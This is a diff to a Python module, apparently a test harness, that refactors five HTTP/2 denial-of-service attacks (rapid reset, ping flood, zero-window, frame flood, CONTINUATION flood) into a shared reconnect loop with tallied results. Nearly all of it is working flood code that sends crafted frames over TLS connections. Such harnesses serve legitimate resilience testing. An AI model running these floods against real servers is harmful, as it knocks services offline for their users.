@@ -313,6 +313,44 @@ def sendUntil(sock: ssl.SSLSocket, data: bytes, end: float) -> bool:
     return True
 
 
+Session = Callable[[ssl.SSLSocket, FrameReader], None]
+"""What an attack does on one connection, until the run ends or the
+server closes it (L{OSError}, L{EOFError})."""
+
+
+def reconnecting(
+    tally: Tally,
+    session: Session,
+    *,
+    rcvbuf: int = 0,
+    timeout: float | None = None,
+    more: Callable[[], bool] = lambda: True,
+) -> None:
+    """
+    The attack loop, one for every attack: while the run lasts (and
+    C{more()}), open a connection from the tally's source (a receive
+    buffer of C{rcvbuf} bytes, a socket timeout of C{timeout} seconds if
+    given) and run C{session} on it; a connection the server closes is
+    counted (L{Tally.closed}), one whose blocking send timed out (the
+    server stopped reading) is given up, and either way a new one opens.
+    """
+    while tally.running() and more():
+        opened = tally.connect(rcvbuf)
+        if opened is None:
+            continue
+        sock, began = opened
+        if timeout is not None:
+            sock.settimeout(timeout)
+        try:
+            session(sock, FrameReader(tally))
+        except TimeoutError:
+            pass  # the server stopped reading: give up on this connection
+        except (OSError, EOFError):
+            tally.closed(began)
+        finally:
+            sock.close()
+
+
 def rapidReset(
     port: int, source: str, ca: bytes, seconds: float, whole: bool, batch: int, out: Any
 ) -> None:
@@ -320,30 +358,22 @@ def rapidReset(
     os.nice(19)  # the probe and the agent share this CPU: let them run
     block = requestBlock()
     tally = Tally("reset", port, source, ca, seconds)
-    while tally.running():
-        opened = tally.connect()
-        if opened is None:
-            continue
-        sock, began = opened
+
+    def session(sock: ssl.SSLSocket, reader: FrameReader) -> None:
         sid = 1
-        try:
-            sock.sendall(PREFACE + SETTINGS)
-            while tally.running():
-                chunk = b"".join(
-                    streamFrames(block, sid + 2 * i, whole) for i in range(batch)
-                )
-                sock.sendall(chunk)
-                sid += 2 * batch
-                tally.count("streams", batch)
-                while select.select([sock], [], [], 0)[0]:
-                    if not sock.recv(65536):
-                        raise EOFError
-        except TimeoutError:
-            pass  # the server stopped reading: give up on this connection
-        except (OSError, EOFError):
-            tally.closed(began)
-        finally:
-            sock.close()
+        sock.sendall(PREFACE + SETTINGS)
+        while tally.running():
+            chunk = b"".join(
+                streamFrames(block, sid + 2 * i, whole) for i in range(batch)
+            )
+            sock.sendall(chunk)
+            sid += 2 * batch
+            tally.count("streams", batch)
+            while select.select([sock], [], [], 0)[0]:
+                if not sock.recv(65536):
+                    raise EOFError
+
+    reconnecting(tally, session)
     out.put(tally.result())
 
 
@@ -356,22 +386,15 @@ def pingFlood(
     chunk = frame(PING, 0x0, 0, b"12345678") * 4096  # 68 KiB
     sent = 0
     tally = Tally("ping", port, source, ca, seconds, ("sent",))
-    while sent < total and tally.running():
-        opened = tally.connect(rcvbuf=4096)
-        if opened is None:
-            continue
-        sock, began = opened
-        try:
-            sock.sendall(PREFACE + SETTINGS)
-            while sent < total and tally.running():
-                sock.sendall(chunk)
-                sent += len(chunk)
-        except TimeoutError:
-            pass  # the server stopped reading: give up on this connection
-        except OSError:
-            tally.closed(began)
-        finally:
-            sock.close()
+
+    def session(sock: ssl.SSLSocket, reader: FrameReader) -> None:
+        nonlocal sent
+        sock.sendall(PREFACE + SETTINGS)
+        while sent < total and tally.running():
+            sock.sendall(chunk)
+            sent += len(chunk)
+
+    reconnecting(tally, session, rcvbuf=4096, more=lambda: sent < total)
     tally.count("sent", sent)
     out.put(tally.result())
 
@@ -396,22 +419,14 @@ def zeroWindow(
         frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, MESSAGE)
         for sid in range(1, 2 * streams, 2)
     )
-    while tally.running():
-        opened = tally.connect()
-        if opened is None:
-            continue
-        sock, began = opened
-        sock.settimeout(0.25)
-        reader = FrameReader(tally)
-        try:
-            if sendUntil(sock, PREFACE + settings + requests, tally.end):
-                tally.count("streams", streams)
-            while tally.running():
-                readSome(sock, reader, min(0.5, tally.remaining()))
-        except (OSError, EOFError):
-            tally.closed(began)
-        finally:
-            sock.close()
+
+    def session(sock: ssl.SSLSocket, reader: FrameReader) -> None:
+        if sendUntil(sock, PREFACE + settings + requests, tally.end):
+            tally.count("streams", streams)
+        while tally.running():
+            readSome(sock, reader, min(0.5, tally.remaining()))
+
+    reconnecting(tally, session, timeout=0.25)
     out.put(tally.result())
 
 
@@ -441,33 +456,25 @@ def frameFlood(
         "frame-flood", port, source, ca, seconds, ("streams", "frames", *RECEIVED)
     )
     block = requestBlock()
-    while tally.running():
-        opened = tally.connect()
-        if opened is None:
-            continue
-        sock, began = opened
-        sock.settimeout(0.25)
-        reader = FrameReader(tally)
+
+    def session(sock: ssl.SSLSocket, reader: FrameReader) -> None:
         sid = 1
-        try:
-            head = PREFACE + SETTINGS + frame(HEADERS, END_HEADERS, sid, block)
-            if sendUntil(sock, head, tally.end):
-                tally.count("streams")
-            chunk = floodRound(sid) * batch
-            while sendUntil(sock, chunk, tally.end):
-                tally.count("frames", 4 * batch)
-                while (frames := readSome(sock, reader, 0)) is not None:
-                    if any(f[0] == RST_STREAM and f[2] == sid for f in frames):
-                        sid += 2
-                        fresh = frame(HEADERS, END_HEADERS, sid, block)
-                        if not sendUntil(sock, fresh, tally.end):
-                            break
-                        tally.count("streams")
-                        chunk = floodRound(sid) * batch
-        except (OSError, EOFError):
-            tally.closed(began)
-        finally:
-            sock.close()
+        head = PREFACE + SETTINGS + frame(HEADERS, END_HEADERS, sid, block)
+        if sendUntil(sock, head, tally.end):
+            tally.count("streams")
+        chunk = floodRound(sid) * batch
+        while sendUntil(sock, chunk, tally.end):
+            tally.count("frames", 4 * batch)
+            while (frames := readSome(sock, reader, 0)) is not None:
+                if any(f[0] == RST_STREAM and f[2] == sid for f in frames):
+                    sid += 2
+                    fresh = frame(HEADERS, END_HEADERS, sid, block)
+                    if not sendUntil(sock, fresh, tally.end):
+                        break
+                    tally.count("streams")
+                    chunk = floodRound(sid) * batch
+
+    reconnecting(tally, session, timeout=0.25)
     out.put(tally.result())
 
 
@@ -496,39 +503,29 @@ def continuationFlood(
     head = frame(HEADERS, 0, 1, requestBlock())
     count = max(1, (kib << 10) // 16384)
 
-    def attacker() -> None:
+    def session(sock: ssl.SSLSocket, reader: FrameReader) -> None:
+        if not sendUntil(sock, PREFACE + SETTINGS, tally.end):
+            return
+        settled = time.monotonic() + 2
+        while time.monotonic() < settled and not any(
+            kind == SETTINGS_FRAME for kind, *_ in readSome(sock, reader, 0.25) or ()
+        ):
+            pass
+        if not sendUntil(sock, head, tally.end):
+            return
+        tally.count("streams")
+        for _ in range(count):
+            if not sendUntil(sock, junk, tally.end):
+                break
+            tally.count("continuation_frames")
+        else:
+            tally.count("filled")  # connections that sent all
         while tally.running():
-            opened = tally.connect()
-            if opened is None:
-                continue
-            sock, began = opened
-            sock.settimeout(0.25)
-            reader = FrameReader(tally)
-            try:
-                if not sendUntil(sock, PREFACE + SETTINGS, tally.end):
-                    continue
-                settled = time.monotonic() + 2
-                while time.monotonic() < settled and not any(
-                    kind == SETTINGS_FRAME
-                    for kind, *_ in readSome(sock, reader, 0.25) or ()
-                ):
-                    pass
-                if not sendUntil(sock, head, tally.end):
-                    continue
-                tally.count("streams")
-                for _ in range(count):
-                    if not sendUntil(sock, junk, tally.end):
-                        break
-                    tally.count("continuation_frames")
-                else:
-                    tally.count("filled")  # connections that sent all
-                while tally.running():
-                    wait = min(0.5, tally.remaining())
-                    readSome(sock, reader, wait, answer=False)
-            except (OSError, EOFError):
-                tally.closed(began)
-            finally:
-                sock.close()
+            wait = min(0.5, tally.remaining())
+            readSome(sock, reader, wait, answer=False)
+
+    def attacker() -> None:
+        reconnecting(tally, session, timeout=0.25)
 
     threads = [threading.Thread(target=attacker) for _ in range(connections)]
     for thread in threads:
